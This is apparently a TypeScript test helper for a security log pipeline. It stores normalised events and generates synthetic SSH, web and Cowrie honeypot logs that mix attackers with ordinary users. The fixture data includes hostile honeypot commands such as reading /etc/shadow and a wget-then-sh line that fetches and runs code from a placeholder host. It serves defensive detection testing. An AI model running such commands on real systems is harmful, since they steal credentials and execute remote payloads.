import { derivedTimeId, newId } from "#platform/ids";
import { takePositions } from "#platform/bus";
import type { Database } from "#platform/database";
import { normalise, type NormalisedEvent } from "#collect";
import type { EvaluatedEvent } from "../evaluate.ts";

/** For tests: puts raw lines into the event table as they stand, without the intake's queue and counters. */
export type StoredLog = Readonly<{ events: readonly EvaluatedEvent[] }>;

const NOW = new Date("2026-02-02T00:00:00.000Z");

export function normaliseAll(lines: readonly string[]): readonly NormalisedEvent[] {
  return lines.map((line) => {
    const read = normalise(line, { format: "auto", sensorKind: "ssh", now: NOW, year: 2026 });
    if (!read.ok) throw new Error(`${read.reason}: ${line}`);
    return read.event;
  });
}

/** Stores lines as events of one sensor, in order, and gives them as rules see them. */
export async function storeLines(db: Database, lines: readonly string[], name = "gate"): Promise<StoredLog> {
  const sensor = newId("sensor", NOW);
  const sensorUuid = sensor.slice(4);
  const normalised = normaliseAll(lines);
  return await db.bookkeep("counters", async (tx) => {
    const row = {
      id: sensorUuid,
      name,
      kind: "ssh",
      location: null,
      metadata: "{}",
      active: true,
      created_at: NOW,
    } as const;
    await tx
      .insertInto("sensor")
      .values({ ...row, key_id: name, key_hash: "none" })
      .execute();
    const first = await takePositions(tx, "event", normalised.length);
    const events: EvaluatedEvent[] = [];
    for (const [index, event] of normalised.entries()) {
      const id = derivedTimeId("event", event.time.getTime(), `${name}|${first + index}`);
      const ecs = { ...event.ecs, "sensor.id": sensor, "sensor.name": name };
      await tx
        .insertInto("event")
        .values({
          position: first + index,
          id: id.slice(4),
          time: event.time,
          observed_at: NOW,
          sensor_id: sensorUuid,
          kind: event.kind,
          session: event.session,
          src_ip: event.src?.ip ?? null,
          src_port: event.src?.port ?? null,
          dst_ip: event.dst?.ip ?? null,
          dst_port: event.dst?.port ?? null,
          transport: event.transport,
          user_name: event.user?.toWellFormed().replaceAll("\0", "\u2400") ?? null,
          action: event.action,
          outcome: event.outcome,
          severity: event.severity,
          logsource: JSON.stringify(event.logsource),
          fields: JSON.stringify(event.fields),
          ecs: JSON.stringify(ecs),
          raw: event.raw.toWellFormed().replaceAll("\0", "\u2400"),
          raw_exact: null,
          raw_ref: null,
          late: false,
          seq: index + 1,
        })
        .execute();
      events.push({ ...event, id, observedAt: NOW, sensorId: sensor, ecs });
    }
    return { events };
  });
}

/** A log of attackers and people, mixed, partly out of order; the same for the same seed. */
export function attackLog(count: number, seed: number): readonly string[] {
  const random = generator(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] ?? (list[0] as T);
  const lines: string[] = [];
  for (let second = 0; lines.length < count; second += Math.floor(random() * 6)) {
    const at = Math.max(0, second - (random() < 0.1 ? Math.floor(random() * 240) : 0));
    lines.push(pick(WRITERS)({ at, ip: `203.0.113.${Math.floor(random() * 9)}`, number: Math.floor(random() * 40) }));
  }
  return lines;
}

/** Mulberry32: small, seeded, good enough to mix a test. */
export function generator(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

type Line = Readonly<{ at: number; ip: string; number: number }>;
const two = (value: number): string => String(value).padStart(2, "0");
const clock = (at: number): string =>
  `${two(10 + Math.floor(at / 3600))}:${two(Math.floor(at / 60) % 60)}:${two(at % 60)}`;
const sshd = ({ at }: Line, text: string): string => `Feb  1 ${clock(at)} gate sshd[9]: ${text}`;
const web = ({ at, ip }: Line, request: string, status: number): string =>
  `${ip} - - [01/Feb/2026:${clock(at)} +0000] "${request} HTTP/1.1" ${status} 153 "-" "Mozilla/5.0"`;

/** The password of every login tried at the decoy: must be found nowhere behind the events. */
export const PASSWORD_TRIED = "c4n4ry-Secret";

const failed = (line: Line): string =>
  sshd(line, `Failed password for invalid user u${line.number} from ${line.ip} port 4000 ssh2`);
const WRITERS: readonly ((line: Line) => string)[] = [
  failed,
  failed,
  failed,
  (line) => sshd(line, `Failed password for root from ${line.ip} port 4000 ssh2`),
  (line) =>
    line.number === 0 ? sshd(line, `Accepted password for root from ${line.ip} port 4000 ssh2`) : failed(line),
  (line) => web(line, `GET /page${line.number}`, 404),
  (line) => web(line, "GET /index.html", 200),
  (line) => web(line, `GET /a${line.number}/.env`, 404),
  ({ at, ip, number }) =>
    JSON.stringify({
      eventid: `cowrie.login.${number % 4 === 0 ? "success" : "failed"}`,
      username: "root",
      password: PASSWORD_TRIED,
      timestamp: `2026-02-01T${clock(at)}.000000Z`,
      src_ip: ip,
      session: "a1",
      sensor: "decoy",
    }),
  ({ at, ip, number }) =>
    JSON.stringify({
      eventid: "cowrie.command.input",
      input: ["uname -a", "whoami", "ps aux", "cat /etc/shadow", "wget http://198.51.100.9/x; sh x"][number % 5],
      timestamp: `2026-02-01T${clock(at)}.000000Z`,
      src_ip: ip,
      session: "a1",
      sensor: "decoy",
    }),
];
